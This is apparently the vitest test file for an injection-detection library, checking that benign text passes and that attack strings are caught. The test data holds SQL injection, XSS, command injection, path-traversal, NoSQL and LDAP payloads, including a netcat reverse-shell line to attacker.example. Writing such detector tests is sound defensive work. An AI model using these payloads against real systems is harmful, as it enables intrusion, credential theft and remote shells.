import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  decode,
  detectCommand,
  detectLdap,
  detectNosql,
  detectPath,
  detectSql,
  detectXss,
  inspect,
  parseQuery,
  scanQuery,
  type InjectionKind,
} from '../../src/core/detect/index.js';
import { tokenizeHtml } from '../../src/core/detect/xss/html.js';
import { tokenize } from '../../src/core/detect/sql/tokenizer.js';
import { ConfigurationError, LimitExceededError } from '../../src/core/errors.js';

const kindsOf = (value: unknown, level?: 'strict' | 'standard' | 'permissive'): InjectionKind[] =>
  [...new Set(inspect(value, level ? { level } : undefined).findings.map((f) => f.kind))].sort();

describe('ordinary text passes at the standard level', () => {
  const ordinary = [
    "O'Brien",
    "Dell'Amico, D'Angelo and O'Neill",
    'select the union option',
    'Tom & Jerry',
    '1 < 2',
    'x > 3 and y < 4 are both true',
    "It's a dog's life; isn't it?",
    'Use SELECT statements to read rows from a table.',
    'Call trim(value) before saving, then print (page 3).',
    'The function foo(bar) returns 1 when x == 2.',
    'Price: $5 (incl. tax) & shipping',
    'I/O errors: see ../docs for details',
    "Don't forget: 5' 10\" tall",
    'Use `npm test` to run the tests',
    'if (a < b && c > d) { return a; }',
    'Rock & roll; cat food and dog food',
    'JavaScript: The Good Parts',
    '50% off -- today only!',
    'Order by phone or email',
    'He said "delete it" and left',
    'Meet at 5; bring snacks & drinks | or not',
    'Contact: John <john@example.com>',
    'I <3 this',
    'std::vector<int> and a->b',
    'The (a|b) pattern matches a or b',
    'C:\\Users\\me\\Documents\\report.docx',
    'Online, onion, onset',
    '',
  ];
  for (const text of ordinary) {
    it(JSON.stringify(text), () => {
      expect(inspect(text).findings).toEqual([]);
    });
  }
});

describe('attacks are found, with the kind, the path and a short decoded snippet', () => {
  const cases: [string, InjectionKind][] = [
    ["admin' OR '1'='1", 'sql'],
    ['1 UNION SELECT username, password FROM users--', 'sql'],
    ["x'; DROP TABLE users; --", 'sql'],
    ['1 AND SLEEP(5)', 'sql'],
    ["admin'--", 'sql'],
    ['<script>alert(1)</script>', 'xss'],
    ['<img src=x onerror=alert(1)>', 'xss'],
    ['" onmouseover="alert(1)', 'xss'],
    ['<a href="jav&#x09;ascript:alert(1)">x</a>', 'xss'],
    ['<svg/onload=confirm(1)>', 'xss'],
    ['<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">', 'xss'],
    ['; cat /etc/passwd', 'command'],
    ['$(whoami)', 'command'],
    ['`id`', 'command'],
    ['| nc attacker.example 4444 -e /bin/sh', 'command'],
    ['../../../etc/passwd', 'path'],
    ['..\\..\\windows\\win.ini', 'path'],
    ['php://filter/convert.base64-encode/resource=index.php', 'path'],
    ['{"$gt": ""}', 'nosql'],
    ["'; return true; var x='", 'nosql'],
    ['*)(uid=*))(|(uid=*', 'ldap'],
    ['admin)(&)', 'ldap'],
  ];
  for (const [text, kind] of cases) {
    it(`${kind}: ${JSON.stringify(text)}`, () => {
      const result = inspect(text);
      expect(result.safe).toBe(false);
      const finding = result.findings.find((f) => f.kind === kind);
      expect(finding?.path).toBe('$');
      expect(finding?.evidence.length).toBeGreaterThan(0);
      expect(finding!.evidence.length).toBeLessThanOrEqual(82);
    });
  }

  it('undoes double URL-encoding, HTML references, JS escapes and fullwidth forms before judging', () => {
    expect(kindsOf('%253Cscript%253Ealert(1)%253C%252Fscript%253E')).toContain('xss');
    expect(kindsOf('&lt;script&gt;alert(1)&lt;/script&gt;')).toContain('xss');
    expect(kindsOf('\\u003cimg src=x onerror=alert(1)\\u003e')).toContain('xss');
    expect(kindsOf('\uff1cscript\uff1ealert(1)\uff1c/script\uff1e')).toContain('xss');
    expect(kindsOf('%2e%2e%2f%2e%2e%2fetc%2fpasswd')).toContain('path');
    expect(kindsOf('..%c0%af..%c0%afboot.ini')).toContain('path');
    expect(kindsOf('1%27%20OR%20%271%27%3D%271')).toContain('sql');
    expect(decode('%2541%2542')).toBe('AB');
  });

  it('sees through comment and case tricks', () => {
    expect(detectSql('1/**/UnIoN/**/SeLeCt/**/password/**/FrOm/**/users')?.rule).toBe('union-select');
    expect(detectSql('1 /*!50000union*/ /*!50000select*/ 1,2')).toBeDefined();
    expect(detectXss('<ScRiPt>alert(1)</sCrIpT>')).toBeDefined();
    expect(detectXss('<scr\u0000ipt>alert(1)</script>')).toBeDefined();
  });

  it('keeps evidence short and on one line', () => {
    const long = `${'a'.repeat(500)}\n<script>alert(1)</script>${'b'.repeat(500)}`;
    const [finding] = inspect(long, { kinds: ['xss'] }).findings;
    expect(finding!.evidence).not.toMatch(/[\n\r]/);
    expect(finding!.evidence.length).toBeLessThanOrEqual(82);
    expect(finding!.evidence).toContain('<script>');
  });
});

describe('inspect walks parsed input', () => {
  it('reports object keys and values, array items and nested paths', () => {
    const value = {
      name: 'Ann',
      comments: ['fine', '<script>alert(1)</script>'],
      user: { 'odd key': "x' or 1=1 --", $ne: null },
      'weird key <svg onload=alert(1)>': 1,
    };
    const findings = inspect(value).findings.map((f) => `${f.kind} ${f.path}`);
    expect(findings).toEqual(
      expect.arrayContaining(['xss $.comments[1]', 'sql $.user["odd key"]', 'nosql $.user.$ne', 'xss $["weird key <svg onload=alert(1)>"]']),
    );
    expect(findings).toHaveLength(4);
  });

  it('ignores numbers, booleans, null, dates and buffers', () => {
    expect(inspect({ a: 1, b: true, c: null, d: new Date(0), e: new Uint8Array([60, 115]) }).safe).toBe(true);
    expect(inspect(42).safe).toBe(true);
    expect(inspect(undefined).safe).toBe(true);
  });

  it('flags MongoDB operators as keys (qs-style and JSON) but not unknown $-words at standard', () => {
    expect(kindsOf({ username: { $ne: 'x' }, password: { $ne: 'x' } })).toEqual(['nosql']);
    expect(kindsOf({ $where: 'sleep(100)' })).toContain('nosql');
    expect(kindsOf({ price: { $existsor: 'foo' } })).toEqual([]);
    expect(kindsOf({ price: { $existsor: 'foo' } }, 'strict')).toEqual(['nosql']);
  });

  it('throws LimitExceededError over the structure limits, naming the limit', () => {
    const deep = JSON.parse(`${'['.repeat(12)}"x"${']'.repeat(12)}`) as unknown;
    expect(() => inspect(deep)).toThrow(LimitExceededError);
    try {
      inspect('x'.repeat(20), { limits: { maxStringLength: 10 } });
      expect.unreachable();
    } catch (error) {
      expect(error).toBeInstanceOf(LimitExceededError);
      expect((error as LimitExceededError).limit).toBe('maxStringLength');
    }
    const cyclic: Record<string, unknown> = {};
    cyclic.self = cyclic;
    expect(() => inspect(cyclic)).toThrow(LimitExceededError);
    expect(inspect(deep, { limits: { maxDepth: 20 } }).safe).toBe(true);
  });

  it('validates options with helpful errors', () => {
    expect(() => inspect('x', { levle: 'strict' } as never)).toThrow(/did you mean "level"/);
    expect(() => inspect('x', { level: 'paranoid' } as never)).toThrow(ConfigurationError);
    expect(() => inspect('x', { kinds: ['sqli'] } as never)).toThrow(/did you mean "sql"/);
    expect(() => inspect('x', { limits: { maxDepth: 0 } })).toThrow(ConfigurationError);
  });

  it('runs only the requested kinds; none with kinds: []', () => {
    const payload = "<script>alert(1)</script>' OR 1=1 --";
    expect(kindsOf(payload)).toEqual(['sql', 'xss']);
    expect(inspect(payload, { kinds: ['sql'] }).findings.map((f) => f.kind)).toEqual(['sql']);
    expect(inspect(payload, { kinds: [] }).safe).toBe(true);
  });
});

describe('levels trade coverage for false positives', () => {
  it('permissive runs SQL, XSS and NoSQL only, with their surest rules', () => {
    expect(kindsOf('; cat /etc/passwd', 'permissive')).toEqual([]);
    expect(kindsOf('1 UNION SELECT password FROM users', 'permissive')).toEqual(['sql']);
    expect(kindsOf('<script>alert(1)</script>', 'permissive')).toEqual(['xss']);
    expect(kindsOf('<div style="color:red">x</div>', 'permissive')).toEqual([]);
  });

  it('strict refuses syntax that standard lets through', () => {
    for (const text of ['<b>bold</b>', 'a; b', 'see /home/ann/notes.txt', 'name*', '7 AND HALF']) {
      expect(inspect(text).safe, text).toBe(true);
      expect(inspect(text, { level: 'strict' }).safe, text).toBe(false);
    }
  });
});

describe('per-kind detectors', () => {
  it('return the kind, a rule name and evidence, or undefined', () => {
    expect(detectSql("' OR 1=1 --")).toMatchObject({ kind: 'sql', rule: expect.any(String) });
    expect(detectXss('<svg onload=alert(1)>')).toMatchObject({ kind: 'xss', rule: 'dangerous-element' });
    expect(detectCommand('a;id')).toMatchObject({ kind: 'command' });
    expect(detectPath('....//....//etc/passwd')).toMatchObject({ kind: 'path' });
    expect(detectNosql('user[$ne]=1')).toMatchObject({ kind: 'nosql', rule: 'operator' });
    expect(detectLdap('*)(objectClass=*')).toMatchObject({ kind: 'ldap' });
    for (const detect of [detectSql, detectXss, detectCommand, detectPath, detectNosql, detectLdap]) expect(detect("O'Brien")).toBeUndefined();
  });
});

describe('scanQuery', () => {
  it('inspects parameter names and values of a request target', () => {
    const result = scanQuery('/search?q=shoes&sort=price&user[$ne]=x&id=1%20UNION%20SELECT%20password%20FROM%20users');
    expect(result.safe).toBe(false);
    expect(result.findings.map((f) => `${f.kind} ${f.path}`).sort()).toEqual(['nosql $["user[$ne]"]', 'sql $.id']);
  });

  it('passes ordinary queries, decodes + as a space and ignores the fragment', () => {
    expect(scanQuery('https://shop.example/p?q=O%27Brien+%26+sons&page=2#<script>').safe).toBe(true);
    expect(parseQuery('/x?a=1+2&b=%41&c&=d&&e=%zz')).toEqual([
      { name: 'a', value: '1 2' },
      { name: 'b', value: 'A' },
      { name: 'c', value: '' },
      { name: '', value: 'd' },
      { name: 'e', value: '%zz' },
    ]);
    expect(parseQuery('/no-query')).toEqual([]);
  });

  it('bounds the parameter count and length with LimitExceededError', () => {
    const many = `/?${Array.from({ length: 30 }, (_, i) => `p${i}=1`).join('&')}`;
    expect(() => scanQuery(many, { limits: { maxKeys: 10 } })).toThrow(LimitExceededError);
    expect(() => scanQuery(`/?q=${'a'.repeat(50)}`, { limits: { maxStringLength: 20 } })).toThrow(LimitExceededError);
    expect(scanQuery(many).safe).toBe(true);
  });
});

describe('properties', () => {
  const anyText = fc.oneof(
    fc.string(),
    fc.string({ unit: 'binary' }),
    fc.array(fc.constantFrom("'", '"', '`', '<', '>', '/', '\\', '*', '(', ')', ';', '|', '&', '$', '%', '#', '-', '=', '.', ' ', 'a', 'select', 'union', 'or', '1', '%2', '&#', '\\u', '\u0000')).map((parts) => parts.join('')),
  );

  it('inspect never throws on arbitrary strings and JSON values, at any level', () => {
    fc.assert(
      fc.property(fc.oneof(anyText, fc.jsonValue({ maxDepth: 4 })), fc.constantFrom('strict', 'standard', 'permissive' as const), (value, level) => {
        const result = inspect(value, { level });
        expect(result.safe).toBe(result.findings.length === 0);
        for (const finding of result.findings) expect(finding.path.startsWith('$')).toBe(true);
      }),
      { numRuns: 400 },
    );
  });

  it('a level never finds less than the level below it', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        const count = (level: 'strict' | 'standard' | 'permissive'): number => inspect(text, { level, kinds: ['sql', 'xss', 'nosql'] }).findings.length;
        expect(count('strict')).toBeGreaterThanOrEqual(count('permissive'));
      }),
      { numRuns: 300 },
    );
  });

  it('decode is stable: decoding a decoded text changes nothing more', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        const once = decode(text);
        expect(decode(once)).toBe(decode(decode(once)));
      }),
      { numRuns: 300 },
    );
  });

  it('the SQL tokenizer covers the input with ordered, non-overlapping tokens', () => {
    fc.assert(
      fc.property(anyText, fc.constantFrom(undefined, "'" as const, '"' as const), (text, quote) => {
        let end = 0;
        for (const token of tokenize(text, quote).tokens) {
          expect(token.start).toBeGreaterThanOrEqual(quote && end === 0 ? 0 : end - (token.type === 's' ? 1 : 0));
          expect(token.end).toBeGreaterThanOrEqual(token.start);
          expect(token.end).toBeLessThanOrEqual(text.length);
          end = token.end;
        }
      }),
      { numRuns: 300 },
    );
  });

  it('the HTML tokenizer finds every tag a browser would start', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom('a', 'img', 'svg', 'x-y')), fc.array(fc.constantFrom('text', ' ', '1 < 2', '&amp;')), (names, texts) => {
        const html = names.map((name, i) => `${texts[i] ?? ''}<${name} id="n${i}">`).join('');
        expect(tokenizeHtml(html).map((tag) => tag.name)).toEqual(names);
      }),
    );
  });

  it('parseQuery reads back what URLSearchParams wrote', () => {
    fc.assert(
      fc.property(fc.array(fc.tuple(fc.string({ minLength: 1 }), fc.string()), { maxLength: 8 }), (pairs) => {
        const query = new URLSearchParams(pairs).toString();
        expect(parseQuery(`/p?${query}`)).toEqual(pairs.map(([name, value]) => ({ name, value })));
      }),
    );
  });
});
